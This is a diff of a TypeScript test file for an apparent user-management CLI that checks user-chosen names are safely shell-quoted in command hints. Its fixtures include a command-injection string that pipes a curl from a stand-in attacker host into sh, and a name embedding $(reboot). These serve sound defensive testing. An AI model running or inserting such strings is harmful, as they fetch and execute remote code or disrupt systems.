@@ -8,7 +8,7 @@ import { coreBox } from '../support/core.ts';
 import type { CoreBox } from '../support/core.ts';
 import { errorOf } from '../support/outside.ts';
 
-/** What somebody called themself or something does nothing to whoever pastes a hint, or writes to an address. */
+/** Names chosen by somebody are harmless to people who paste a hint or write to an address. */
 
 let box: CoreBox;
 let eve: string;
@@ -23,7 +23,7 @@ const HOSTILE = 'm;curl${IFS}evil.example|sh';
 const NAME = "it's $(reboot) `here`";
 const hintOf = async (work: Promise<unknown>): Promise<string | undefined> => (await errorOf(work))?.hint;
 
-test('a username in a hint is one word of the shell', async () => {
+test('a username in a hint is one shell word', async () => {
   await box.call(meEdit, { username: HOSTILE }, eve);
   expect(await hintOf(box.call(peopleAdd, { people: [{ email: 'eve@acme.example' }] }))).toBe(
     `roster people show '${HOSTILE}'`,
@@ -38,12 +38,12 @@ test.each<[string, () => Promise<unknown>, string]>([
   ['role', () => box.call(roleNew, { name: NAME, permissions: [] }), 'roster role show '],
   ['service account', () => box.call(serviceAccountCreate, { name: NAME }), 'roster service-account show '],
   ['token', () => box.call(tokenCreate, { name: NAME }), 'choose another name, or replace it: roster token reset '],
-])('the name of a %s is, too', async (_what, make, before) => {
+])('the name of a %s is one shell word as well', async (_what, make, before) => {
   await make();
   expect(await hintOf(make())).toContain(`${before}'it'\\''s $(reboot) \`here\`'`);
 });
 
-test('nobody takes the address of somebody who is invited', async () => {
+test('nobody can set their address to an invited one', async () => {
   await box.call(peopleInvite, { people: [{ email: 'boss@acme.example' }], role: 'Admin' });
   expect(await box.refusal(box.call(meEdit, { email: 'Boss@acme.example' }, eve))).toBe('conflict');
   expect((await box.personOf('eve')).email).toBe('eve@acme.example');
